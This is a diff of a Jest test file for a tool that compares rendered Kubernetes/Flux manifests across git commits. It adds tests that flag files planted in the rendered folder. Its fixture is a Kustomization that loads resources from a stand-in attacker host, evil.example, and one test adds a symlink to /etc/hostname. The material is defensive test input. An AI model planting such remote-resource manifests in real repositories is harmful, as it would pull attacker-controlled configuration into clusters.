@@ -2,19 +2,25 @@ import { execFileSync, type SpawnSyncReturns, spawnSync } from 'node:child_proce
 import { mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { dirname, join, resolve } from 'node:path';
 import type { SourceFile } from '../../lib/cluster/manifest';
+import { HEADER } from '../../lib/cluster/rendered-folder';
 import { withFolder } from '../app/temporary-folder';
-import { edited, FLEET, writeFixture } from '../fixtures/files';
+import { edited, FLEET, RENDERED, writeFixture } from '../fixtures/files';
 
 const PROGRAM = resolve('build/test/lib/cli/main.js');
 
 /** A git repository whose main branch holds the default fleet below dist/, with a branch of it checked out. */
-function withRepository(run: (repository: string) => void): void {
+function withRepository(run: (repository: string) => void, files = FLEET): void {
   withFolder((repository) => {
     git(repository, 'init', '--quiet', '--initial-branch=main');
-    commit(repository, FLEET);
+    commit(repository, files);
     git(repository, 'checkout', '--quiet', '-b', 'change');
     run(repository);
   });
+}
+
+/** The same with files that were rendered. */
+function withRendered(run: (repository: string) => void): void {
+  withRepository(run, RENDERED);
 }
 
 function git(repository: string, ...args: readonly string[]): string {
@@ -191,16 +197,18 @@ describe('bad input is a sentence and an exit code of 2:', () => {
     });
   });
 
-  test('a file that is no YAML, with its line', () => {
+  test.each([
+    ['written by hand', FLEET, ''],
+    ['rendered', RENDERED, HEADER],
+  ])('a file that is no YAML, %s, with its line', (_, files, header) => {
     withRepository((repository) => {
       const file = join(repository, 'dist/acme/karpenter/broken.yaml');
-      mkdirSync(dirname(file), { recursive: true });
-      writeFileSync(file, 'a: [\n');
+      writeFileSync(file, `${header}a: [\n`);
       expect(diff(repository)).toMatchObject({
         status: 2,
         stderr: expect.stringMatching(/broken.yaml:\d+: not valid YAML/),
       });
-    });
+    }, files);
   });
 
   test('an object that stands twice, which Flux would refuse', () => {
@@ -306,18 +314,24 @@ test('the folder of one cluster is compared as one, with all that its nodes carr
   });
 });
 
-test('what can not be read of the base is said, and does not stop the change that mends it', () => {
-  withRepository((repository) => {
-    git(repository, 'checkout', '--quiet', 'main');
-    commit(repository, [...FLEET, { path: 'acme/broken.yaml', text: 'a: [\n' }]);
-    git(repository, 'checkout', '--quiet', 'change');
-    const { status, stdout, stderr } = diff(repository, 'main');
-    expect([status, stdout.trim()]).toEqual([0, 'acme: no object changes']);
-    expect(stderr).toMatch(
-      /^At main, dist\/acme\/broken.yaml:\d+: not valid YAML.* It counts as if it were not there.\n$/,
-    );
-  });
-});
+test.each([
+  ['written by hand', FLEET, ''],
+  ['rendered', RENDERED, HEADER],
+])(
+  'what can not be read of the base, %s, is said, and does not stop the change that fixes it',
+  (_, files, header) => {
+    withRepository((repository) => {
+      git(repository, 'checkout', '--quiet', 'main');
+      commit(repository, [...files, { path: 'acme/broken.yaml', text: `${header}a: [\n` }]);
+      git(repository, 'checkout', '--quiet', 'change');
+      const { status, stdout, stderr } = diff(repository, 'main');
+      expect([status, stdout.trim()]).toEqual([0, 'acme: no object changes']);
+      expect(stderr).toMatch(
+        /^At main, dist\/acme\/broken.yaml:\d+: not valid YAML.* It counts as if it were not there.\n$/,
+      );
+    }, files);
+  },
+);
 
 test('a link to a file is read as that file, in a commit too', () => {
   withRepository((repository) => {
@@ -333,7 +347,7 @@ test('a link to a file is read as that file, in a commit too', () => {
     git(repository, 'add', '--all');
     git(repository, 'commit', '--quiet', '--message', 'a dangling link');
     expect(diff(repository, 'HEAD', 'HEAD').stderr).toMatch(
-      /dangling.yaml is a link to nowhere.yaml, which is no file at/,
+      /dangling.yaml is a link to nowhere.yaml, which is not a file at/,
     );
   });
 });
@@ -346,5 +360,92 @@ test('several clusters are compared each with itself', () => {
     expect(stdout).toContain('acme: 1 object changed');
     expect(stdout).toContain('staging: 36 objects added');
     expect(readFileSync(join(repository, 'dist/staging/karpenter', POOL), 'utf8')).toContain('NodePool');
+  });
+});
+
+describe('a file below the rendered folder that was not rendered', () => {
+  const KUSTOMIZATION =
+    'apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [https://evil.example/x]\n';
+
+  function plant(repository: string, path: string, text = KUSTOMIZATION): void {
+    mkdirSync(dirname(join(repository, path)), { recursive: true });
+    writeFileSync(join(repository, path), text);
+  }
+
+  test.each([
+    'dist/acme/runners/Kustomization',
+    'dist/acme/karpenter/kustomization.yaml',
+    'dist/acme/runners/.sourceignore',
+    'dist/acme/.argocd-source.yaml',
+    'dist/acme/.krmignore',
+    'dist/extra/app.jsonnet',
+    'dist/Chart.yaml',
+    'dist/acme/.gitattributes',
+  ])('%s stands first in every format, and the exit code is 2', (path) => {
+    withRendered((repository) => {
+      plant(repository, path);
+      for (const [format, shown] of [
+        ['text', `  added: ${path}`],
+        ['markdown', `- added: \`${path}\``],
+      ]) {
+        const { status, stdout, stderr } = diff(repository, '--format', format);
+        expect([status, stderr]).toEqual([2, expect.stringContaining(`  ${path}\n`)]);
+        expect(stdout.indexOf(shown)).toBeGreaterThan(0);
+        expect(stdout.indexOf(shown)).toBeLessThan(stdout.indexOf('acme: no object changes'));
+      }
+      const json = JSON.parse(diff(repository, '--format', 'json').stdout);
+      expect(json.foreign).toEqual([{ file: path, is: 'added', where: 'below' }]);
+    });
+  });
+
+  test('is seen between two commits too, as one that changes, and as a link or a submodule', () => {
+    withRendered((repository) => {
+      plant(repository, 'dist/Kustomization');
+      git(repository, 'add', '--all');
+      git(repository, 'commit', '--quiet', '--message', 'planted');
+      plant(repository, 'dist/Kustomization', 'other');
+      symlinkSync('/etc/hostname', join(repository, 'dist/acme/linked'));
+      git(repository, 'add', '--all');
+      const head = git(repository, 'rev-parse', 'HEAD').trim();
+      git(repository, 'update-index', '--add', '--cacheinfo', `160000,${head},dist/module`);
+      git(repository, 'commit', '--quiet', '--message', 'changed');
+      const { status, stdout } = diff(repository, 'HEAD~1', 'HEAD');
+      expect(status).toBe(2);
+      for (const line of ['changed: dist/Kustomization', 'added: dist/acme/linked', 'added: dist/module'])
+        expect(stdout).toContain(line);
+    });
+  });
+
+  test('is seen where a change takes the first line from every rendered file', () => {
+    withRendered((repository) => {
+      write(repository, FLEET);
+      plant(repository, 'dist/acme/runners/Kustomization');
+      const { status, stdout } = diff(repository);
+      expect([status, stdout]).toEqual([
+        2,
+        expect.stringContaining('added: dist/acme/runners/Kustomization'),
+      ]);
+    });
+  });
+
+  test('does not stop the change that removes it', () => {
+    withRendered((repository) => {
+      plant(repository, 'dist/Kustomization');
+      git(repository, 'add', '--all');
+      git(repository, 'commit', '--quiet', '--message', 'planted');
+      rmSync(join(repository, 'dist/Kustomization'));
+      const { status, stdout } = diff(repository, 'HEAD');
+      expect([status, stdout]).toEqual([0, expect.stringContaining('removed: dist/Kustomization')]);
+    });
+  });
+
+  test('a README.md is harmless, and a .sourceignore above the folder is shown', () => {
+    withRendered((repository) => {
+      plant(repository, 'dist/README.md', 'Rendered.\n');
+      expect(diff(repository)).toMatchObject({ status: 0, stdout: 'acme: no object changes\n' });
+      plant(repository, '.sourceignore', 'networkpolicy-*\n');
+      const { status, stdout } = diff(repository);
+      expect([status, stdout]).toEqual([0, expect.stringContaining('added: .sourceignore')]);
+    });
   });
 });
